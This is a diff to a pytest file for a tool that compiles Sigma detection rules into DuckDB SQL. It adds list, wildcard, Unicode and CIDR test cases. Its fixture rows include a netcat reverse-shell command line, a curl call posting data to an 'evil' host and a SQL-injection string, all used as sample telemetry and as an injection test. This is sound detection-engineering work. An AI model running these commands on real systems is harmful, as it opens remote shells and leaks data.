@@ -15,7 +15,7 @@ from sigma.collection import SigmaCollection
 
 from kernelsec_nb.hunt._backend import DuckDBBackend
 from kernelsec_nb.hunt._pipeline import pipeline
-from kernelsec_nb.hunt._sources import SOURCES
+from kernelsec_nb.hunt._sources import SOURCES, _ip4
 
 ROWS = [
     ("/usr/bin/nc", "/usr/bin/nc -e /bin/sh 10.0.0.1 4444", "10.0.0.1", "4444"),
@@ -25,6 +25,9 @@ ROWS = [
     ("/usr/bin/curl", "curl http://evil/a?b=1 --data 'x'", "fe80::1", None),
     (None, None, None, None),
     ("/usr/bin/python3", "python3 -c import socket;connect()", "8.8.8.8", "1023"),
+    ("/usr/bin/n\n", "x\n(x \u00c9T\u00c9 -I", "10.0.0.255", "1"),
+    ("/x", "y", "10.0.0.1.5", "2"),
+    ("/x", "y", "10.0.256.1", "3"),
 ]
 COLUMNS = ("binary", "command_line", "dst_ip", "dst_port")
 
@@ -77,23 +80,39 @@ CASES = {
     "exists": ("DestinationPort|exists: true", lambda r: r[3] is not None),
     "not_exists": ("DestinationPort|exists: false", lambda r: r[3] is None),
     "null": ("Image: null", lambda r: r[0] is None),
+    # a list of values for one field is one regex alternation: every character must stay literal
+    "list_tricky": ("CommandLine|contains: ['100%_d', 'a\\\\b\\*c\\?', \"--data 'x'\", '.0.0.', '(x', ' -I']",
+                    lambda r: any(_like(r[1], p) for p in ("*100%_d*", "*--data 'x'*", "*.0.0.*", "*(x*", "* -i*"))
+                    or (r[1] is not None and "a\\b*c?" in r[1].lower())),
+    "list_wildcards": ("Image: ['/usr/bin/n?', '*/b?sh', '/tmp/*_y', a, b, c]",
+                       lambda r: any(_like(r[0], p) for p in ("/usr/bin/n?", "*/b?sh", "/tmp/*_y"))),
+    "list_short": ("Image|endswith: [/nc, /sh]", lambda r: _like(r[0], "*/nc") or _like(r[0], "*/sh")),
+    "list_cased": ("Image|cased: ['/BIN/SH', /bin/bash, a, b, c, d]",
+                   lambda r: _like(r[0], "/BIN/SH", cased=True) or _like(r[0], "/bin/bash", cased=True)),
+    "list_numbers": ("DestinationPort: [80, 6443, 1]", lambda r: _num(r[3]) in (80, 6443, 1)),
+    "string_on_number": ("DestinationPort|startswith: '44'", lambda r: r[3] is not None and r[3].startswith("44")),
+    "list_unicode": ("CommandLine|contains: ['\u00e9t\u00e9', 'SOCKET', zz1, zz2, zz3, zz4]",
+                     lambda r: _like(r[1], "*\u00e9t\u00e9*") or _like(r[1], "*socket*")),
     "windash": ("CommandLine|windash|contains: ' -c '",
                 lambda r: any(_like(r[1], f"* {d}c *") for d in ("-", "/", "\u2013", "\u2014", "\u2015"))),
 }
 
 
-def _compile(item: str, condition: str = "sel") -> tuple[str, dict]:
+def _compile(item: str, condition: str = "sel", *, ip4: bool = True) -> tuple[str, dict]:
     rule = SigmaCollection.from_yaml(
         "title: t\nlogsource: {category: network_connection, product: linux}\n"
         f"detection:\n  sel:\n    {item}\n  condition: {condition}\n").rules[0]
-    return DuckDBBackend(pipeline()).to_sql(rule, "r0", SOURCES["network_connection"].columns)
+    source = SOURCES["network_connection"]
+    return DuckDBBackend(pipeline()).to_sql(rule, "r0", source.columns, source.numeric,
+                                            source.ip4 if ip4 else frozenset())
 
 
 @pytest.fixture(scope="module")
 def con():
     c = duckdb.connect()
-    c.execute("CREATE TABLE v (i INTEGER, " + ", ".join(f'"{x}" VARCHAR' for x in COLUMNS) + ")")
+    c.execute("CREATE TABLE v (i INTEGER, " + ", ".join(f'"{x}" VARCHAR' for x in COLUMNS[:-1]) + ", dst_port BIGINT)")
     c.executemany("INSERT INTO v VALUES (?, ?, ?, ?, ?)", [(i, *r) for i, r in enumerate(ROWS)])
+    c.execute(f"ALTER TABLE v ADD COLUMN dst_ip4 UBIGINT; UPDATE v SET dst_ip4 = {_ip4('dst_ip')}")
     return c
 
 
@@ -107,10 +126,26 @@ def test_modifier_matches_brute_force(con, name: str, negate: bool) -> None:
     assert got == want, (item, sql, params)
 
 
+@pytest.mark.parametrize("name", ["cidr", "cidr_list"])
+def test_cidr_without_the_integer_column(con, name: str) -> None:
+    item, meaning = CASES[name]
+    sql, params = _compile(item, ip4=False)
+    assert "dst_ip4" not in sql
+    got = {i for (i,) in con.execute(f"SELECT i FROM v WHERE {sql}", params).fetchall()}  # noqa: S608
+    assert got == {i for i, r in enumerate(ROWS) if meaning(r)}
+
+
 def test_values_are_parameters_never_sql_text() -> None:
     sql, params = _compile("CommandLine|contains: \"'; DROP TABLE v; --\"")
     assert "DROP" not in sql and "--" not in sql and "'" not in sql
     assert params == {"r0_0": "%'; DROP TABLE v; --%"}
+
+
+def test_long_lists_are_one_regex_short_ones_ilikes() -> None:
+    sql, params = _compile("CommandLine|contains: [a, b, c, d, e, f]")
+    assert sql.startswith("regexp_matches(") and len(params) == 1
+    sql, params = _compile("CommandLine|contains: [a, b]")
+    assert sql.count("ILIKE") == 2 and "regexp" not in sql
 
 
 def test_binary_is_quoted() -> None:
